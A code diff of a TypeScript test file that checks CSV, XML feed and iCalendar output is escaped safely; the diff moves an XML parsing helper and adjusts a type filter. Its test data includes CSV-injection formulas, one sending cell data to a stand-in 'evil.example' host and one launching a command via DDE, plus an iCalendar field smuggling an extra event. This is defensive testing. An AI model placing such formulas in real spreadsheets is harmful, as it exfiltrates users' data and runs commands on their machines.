@@ -3,38 +3,15 @@
  * each output is parsed back with a real parser and must give back exactly the records written.
  */
 import { parse as parseCsv } from 'csv-parse/sync';
-import ical from 'node-ical';
-import { SaxesParser } from 'saxes';
+import ical, { type VEvent } from 'node-ical';
 import { describe, expect, it } from 'vitest';
 import { neutraliseCell, toCsv } from '../../src/domain/csv.ts';
 import { atomFeed } from '../../src/domain/feeds/atom.ts';
 import { icsCalendar } from '../../src/domain/feeds/ics.ts';
 import { escapeXml } from '../../src/domain/xml.ts';
+import { strictXmlTexts as parseXmlStrict } from '../support/strict-xml.ts';
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", '+SUM(1,2)', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
-
-/** Parse XML strictly (XML 1.0 well-formedness, including the characters it allows); returns the text of each element by name. */
-function parseXmlStrict(xml: string): Map<string, string[]> {
-  const texts = new Map<string, string[]>();
-  const stack: string[] = [];
-  let current = '';
-  const parser = new SaxesParser({ xmlns: true });
-  parser.on('opentag', (tag) => {
-    stack.push(tag.local);
-    current = '';
-  });
-  parser.on('text', (t) => (current += t));
-  parser.on('closetag', (tag) => {
-    stack.pop();
-    texts.set(tag.local, [...(texts.get(tag.local) ?? []), current]);
-    current = '';
-  });
-  parser.on('error', (e) => {
-    throw e;
-  });
-  parser.write(xml).close();
-  return texts;
-}
 
 describe('CSV', () => {
   it('prefixes every formula-looking text cell with an apostrophe, and leaves numbers and plain text alone', () => {
@@ -89,7 +66,7 @@ describe('iCalendar', () => {
   });
 
   it('gives a real parser exactly the events written, with their text', () => {
-    const parsed = Object.values(ical.sync.parseICS(ics)).filter((c) => c.type === 'VEVENT') as ical.VEvent[];
+    const parsed = Object.values(ical.sync.parseICS(ics)).filter((c): c is VEvent => c?.type === 'VEVENT');
     expect(parsed.map((e) => e.uid)).toEqual(['a@x', 'b@x']);
     expect(parsed[0]!.summary).toBe('Hạn chót\nEND:VEVENT\nBEGIN:VEVENT\nUID:evil');
     expect(parsed[0]!.description).toBe('a\\b;c,d\ne\nf\uFFFDg');
